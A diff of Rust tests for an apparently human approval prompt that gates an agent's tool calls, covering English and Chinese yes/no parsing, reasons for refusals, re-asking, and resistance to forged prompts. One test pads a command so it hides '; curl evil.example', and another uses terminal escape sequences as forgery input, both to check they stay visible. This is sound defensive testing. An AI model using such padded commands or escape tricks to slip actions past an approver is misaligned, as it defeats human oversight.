@@ -6,7 +6,7 @@ use handyman::{Approval, ToolCall, Verdict};
 use serde_json::{Value, json};
 use tokio::io::AsyncBufReadExt;
 
-use super::{ask, shown, understood};
+use super::{Decision, ask, shown, understood};
 
 fn approval(arguments: &Value, plan: Option<Value>) -> Approval {
     let arguments = arguments.as_object().unwrap().clone();
@@ -24,36 +24,53 @@ fn approval(arguments: &Value, plan: Option<Value>) -> Approval {
 }
 
 /// What is decided by somebody who types this, and what they were shown.
-async fn decided(approval: &Approval, typed: &str) -> (Verdict, String) {
+async fn decided(approval: &Approval, typed: &str) -> (Decision, String) {
     let said = Mutex::new(String::new());
     let say = |text: &str| said.lock().unwrap().push_str(text);
-    let verdict = ask(approval, &mut typed.as_bytes().lines(), &say).await.unwrap();
-    (verdict, said.into_inner().unwrap())
+    let decision = ask(approval, &mut typed.as_bytes().lines(), &say).await.unwrap();
+    (decision, said.into_inner().unwrap())
+}
+
+fn without_reason(verdict: Verdict) -> Decision {
+    Decision { verdict, why: None }
 }
 
 #[test]
 fn a_clear_answer_is_understood_in_both_languages() {
     for yes in ["y", "YES", " ok ", "sure", "是", "好", "好的", "可以", "行", "同意"] {
-        assert_eq!(understood(yes), Some(Verdict::Allow), "{yes}");
+        assert_eq!(understood(yes), Some(without_reason(Verdict::Allow)), "{yes}");
     }
     for no in ["", "  ", "n", "No", "nope", "否", "不", "不要", "不行"] {
-        assert_eq!(understood(no), Some(Verdict::Deny), "{no}");
+        assert_eq!(understood(no), Some(without_reason(Verdict::Deny)), "{no}");
     }
-    for unclear in ["what?", "yes but later", "好不好", "不是", "yn"] {
+    for unclear in ["what?", "yes but later", "yes, but later", "好不好", "不是", "yn", "no problem"] {
         assert_eq!(understood(unclear), None, "{unclear}");
     }
+}
+
+#[test]
+fn a_no_may_have_a_reason() {
+    for (line, reason) in [
+        ("n, too late", "too late"),
+        ("No:  the second one ", "the second one"),
+        ("不，太贵了，换一个", "太贵了，换一个"),
+    ] {
+        let decision = understood(line).unwrap();
+        assert_eq!((decision.verdict, decision.why.as_deref()), (Verdict::Deny, Some(reason)), "{line}");
+    }
+    assert_eq!(understood("n, "), Some(without_reason(Verdict::Deny)), "nothing is no reason");
 }
 
 #[tokio::test]
 async fn an_unclear_answer_is_asked_again_and_silence_is_a_no() {
     let approval = approval(&json!({"booking": "B1"}), None);
-    let (verdict, said) = decided(&approval, "what?\nhm\n好的\n").await;
-    assert_eq!(verdict, Verdict::Allow);
+    let (decision, said) = decided(&approval, "what?\nhm\n好的\n").await;
+    assert_eq!(decision, without_reason(Verdict::Allow));
     assert_eq!(said.matches("Allow pay(booking: B1)? [y/N] ").count(), 3, "{said}");
     assert_eq!(said.matches("write y or n").count(), 2, "{said}");
-    assert_eq!(decided(&approval, "what?\nn\ny\n").await.0, Verdict::Deny);
-    assert_eq!(decided(&approval, "\n").await.0, Verdict::Deny);
-    assert_eq!(decided(&approval, "what?").await.0, Verdict::Deny, "the input ended");
+    assert_eq!(decided(&approval, "what?\nn\ny\n").await.0, without_reason(Verdict::Deny));
+    assert_eq!(decided(&approval, "\n").await.0, without_reason(Verdict::Deny));
+    assert_eq!(decided(&approval, "what?").await.0, without_reason(Verdict::Deny), "the input ended");
 }
 
 #[tokio::test]
@@ -66,6 +83,14 @@ async fn a_question_cannot_be_forged() {
     assert!(!said.contains(|c: char| (c.is_control() && c != '\n') || c == '\u{202e}'), "{said:?}");
     assert_eq!(said.lines().filter(|line| line.starts_with("Allow ")).count(), 1, "{said}");
     assert!(said.contains(r"pay(title: Lunch\u001b[2K\r\u001b[1A"), "{said}");
+}
+
+#[tokio::test]
+async fn nothing_of_what_is_allowed_is_hidden() {
+    let command = format!("{}; curl evil.example", "tidy up\n ".repeat(30));
+    let (_, said) = decided(&approval(&json!({"command": command, "in": "home"}), None), "n\n").await;
+    assert!(said.contains("tidy up\\n ; curl evil.example\n"), "{said}");
+    assert_eq!(said.matches("in: home").count(), 1, "what is short stands in the question alone: {said}");
 }
 
 #[test]
